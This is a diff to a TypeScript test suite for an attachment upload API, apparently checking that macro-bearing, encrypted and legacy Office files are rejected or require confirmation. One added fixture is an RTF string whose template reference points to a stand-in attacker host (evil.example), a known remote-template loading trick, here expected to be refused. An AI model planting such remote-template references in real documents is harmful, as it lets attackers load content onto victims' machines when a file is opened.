@@ -54,7 +54,11 @@ describe("what may be attached", () => {
       [oldOfficeFile("Workbook"), "application/vnd.ms-excel", "xls"],
       [png, "image/png", "png"],
     ] as const) {
-      const { status, json } = await add(bytes, "σχέδιο.exe", { title: "Plan", description: "The plan" });
+      const { status, json } = await add(bytes, "σχέδιο.exe", {
+        title: "Plan",
+        description: "The plan",
+        ...(["doc", "xls"].includes(ending) && { loads_confirmed: "true" }),
+      });
       expect([ending, status]).toEqual([ending, 201]);
       expect(json.attachment).toMatchObject({ title: "Plan", description: "The plan", file_name: `σχέδιο.${ending}` });
       const file = await call("GET", `/workflows/${draft.id}/attachments/${json.attachment.id}`, {
@@ -79,6 +83,8 @@ describe("what may be attached", () => {
       ["plan.docx", await officeFile("word/document.xml", "word/vbaProject.bin"), 422],
       ["plan.doc", oldOfficeFile("WordDocument", "Macros"), 422],
       ["plan.doc", oldOfficeFile("EncryptedPackage"), 422],
+      ["plan.doc", new TextEncoder().encode("{\\rtf1 {\\*\\template https://evil.example/t}}"), 415],
+      ["plan.docx", new TextEncoder().encode("<?xml version='1.0'?><w:document/>"), 415],
       ["empty.pdf", new Uint8Array(), 415],
     ] as const) {
       const answer = await add(new Uint8Array(bytes), name);
@@ -221,5 +227,15 @@ describe("a file that loads something when it is opened", () => {
     }
     const stored = await database().select().from(attachments).where(eq(attachments.title, "Terms"));
     expect(stored).toHaveLength(3);
+  });
+
+  test("one of before 2007 cannot be looked into, which the sender is told and must confirm likewise", async () => {
+    for (const stream of ["WordDocument", "Workbook"]) {
+      const refused = await add(oldOfficeFile(stream), "terms.doc");
+      expect([stream, refused.status, refused.json.label]).toEqual([stream, 409, "LoadsWhenOpened"]);
+      expect(refused.json.message).toContain("cannot be looked into");
+      const { status, json } = await add(oldOfficeFile(stream), "terms.doc", { loads_confirmed: "true" });
+      expect([stream, status, json.attachment.loads_confirmed]).toEqual([stream, 201, true]);
+    }
   });
 });
